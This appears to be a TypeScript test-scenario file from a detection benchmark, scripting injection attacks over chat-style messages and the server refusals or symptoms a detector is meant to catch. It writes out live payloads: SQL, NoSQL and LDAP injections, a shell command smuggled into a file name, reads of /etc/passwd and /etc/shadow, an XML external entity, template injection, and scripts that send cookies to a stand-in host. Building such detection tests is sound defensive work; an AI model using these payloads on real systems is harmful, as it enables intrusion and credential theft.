// Injection in messages: what the server passes on to a database, a shell, a parser or other people's browsers.
import { carriers } from '../../bench/detection/carriers.ts'
import type { Attack } from './attack.ts'
import type { Scene } from './scene.ts'
import type { Said } from './visit.ts'

const refusal = { type: 'error', text: 'That was not understood.' }

export const injection: readonly Attack[] = [
  single('sql_injection_in_message', 'A product that is always true.', { productId: "1' OR 1=1--" }),
  single('nosql_operator_in_message', 'A password that is an operator, under a name that says no login.', {
    type: 'find',
    filter: { name: 'admin', secret: { $ne: null } },
  }),
  single(
    'shell_command_in_message',
    'A file name with a command behind it, over Socket.IO.',
    carriers['socket.io']!('report.pdf; cat /etc/passwd'),
  ),
  single(
    'ldap_filter_in_message',
    'A name that ends the filter it is put into, over JSON-RPC.',
    carriers['JSON-RPC']!('*)(uid=*))(|(uid=*'),
  ),
  single(
    'xpath_in_message',
    'A name that asks for the passwords of other nodes, in a variable of GraphQL.',
    carriers['graphql-ws']!("'] | //user/password | //a['"),
  ),
  single(
    'path_traversal_in_message',
    'A file outside the folder, deep inside a message.',
    carriers['nested JSON']!('../../../../etc/passwd'),
  ),
  single(
    'xml_entity_in_message',
    'A document with an entity that is a file.',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]><r>&f;</r>',
  ),
  single('template_expression_in_message', 'A name that a template engine works out.', {
    type: 'rename',
    name: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  }),
  single(
    'script_in_message',
    'An image with an error handler, over Socket.IO, as a chat line that goes nowhere.',
    carriers['socket.io']!('<img src=x onerror="fetch(\'https://drop.example.net/?c=\'+document.cookie)">'),
  ),
  {
    rule: 'script_relayed_to_others',
    about: 'The server passes a script on to somebody else in the room.',
    play: (scene) => {
      const host = `${scene.own('rooms')}.example.com`
      const home = { host, origin: `https://${host}` }
      const script = '<svg onload="new Image().src=\'//drop.example.net/\'+document.cookie">'
      const reader = scene.open({ ...home, from: scene.bystander() })
      reader.ask({ type: 'join', room: 'harbour' }, { type: 'joined', room: 'harbour' })
      const visit = scene.open(home)
      visit.say({ type: 'say', room: 'harbour', text: script })
      reader.hear({ type: 'said', room: 'harbour', from: 'guest', text: script }).close()
      visit.close()
    },
  },
  {
    rule: 'error_after_injection',
    about: 'The answer to an injection is an error of the database.',
    play: (scene) => {
      const visit = scene.open({ path: '/shop' })
      visit.ask(
        { search: "shoes' UNION SELECT name, password FROM users--" },
        { error: "You have an error in your SQL syntax; check the manual near 'FROM users--'" },
      )
      visit.close()
    },
  },
  {
    rule: 'large_answer_to_injection',
    about: 'The answer to an injection is a hundred times as large as answers are.',
    play: (scene) => {
      const path = `/${scene.own('catalogue')}`
      askAround(scene, path)
      const visit = scene.open({ path })
      visit.ask(
        { search: "' OR 'a'='a" },
        { rows: Array.from({ length: 900 }, (_, id) => ({ id, name: `item ${id}` })) },
      )
      visit.close()
    },
  },
  {
    rule: 'slow_answer_after_wait',
    about: 'A question that asks the database to wait is answered after six seconds.',
    play: (scene) => {
      const visit = scene.open({ path: '/shop' })
      visit.say({ search: "shoes'; SELECT pg_sleep(6)--" })
      scene.wait(6)
      visit.hear({ rows: [] }).close()
    },
  },
  {
    rule: 'repeated_injection',
    about: 'Six injections within two hours, one every quarter of an hour.',
    play: (scene) => {
      const visit = scene.open({ path: '/shop', deflate: true })
      for (const number of [1, 2, 3, 4, 5, 6]) {
        visit.ask({ productId: `${number}' OR ${number}=${number}--` }, refusal)
        scene.wait(900)
      }
      visit.close()
    },
  },
  {
    rule: 'several_kinds_of_injection',
    about: 'One client tries SQL, a path and a template after each other.',
    play: (scene) => {
      const visit = scene.open({ path: '/shop' })
      for (const search of ["' UNION SELECT 1,2,3--", '../../../../etc/shadow', '${7*7}{{7*7}}']) {
        visit.ask({ search }, refusal)
        scene.wait(20)
      }
      visit.close()
    },
  },
]

/** One message that is it, between others that are not, and refused. */
function single(rule: string, about: string, said: Said): Attack {
  return {
    rule,
    about,
    play: (scene) => {
      const visit = scene.open({ path: '/shop', deflate: scene.random() < 0.5 })
      visit.ask({ type: 'search', text: 'blue shoes' }, { type: 'found', ids: [7, 12] })
      scene.wait(3)
      visit.ask(said, refusal)
      scene.wait(1)
      visit.close()
    },
  }
}

/** What is usual at a path: three people who ask for a quarter of an hour. */
function askAround(scene: Scene, path: string): void {
  const visits = [0, 1, 2].map((number) => scene.open({ from: scene.bystander(number), path }))
  for (let turn = 0; turn < 60; turn++) {
    for (const visit of visits) {
      const found = Array.from({ length: 1 + scene.below(4) }, (_, id) => ({ id, name: `item ${id}` }))
      visit.ask({ search: `shoes ${turn}` }, { rows: found })
    }
    scene.wait(15)
  }
  for (const visit of visits) visit.close()
}
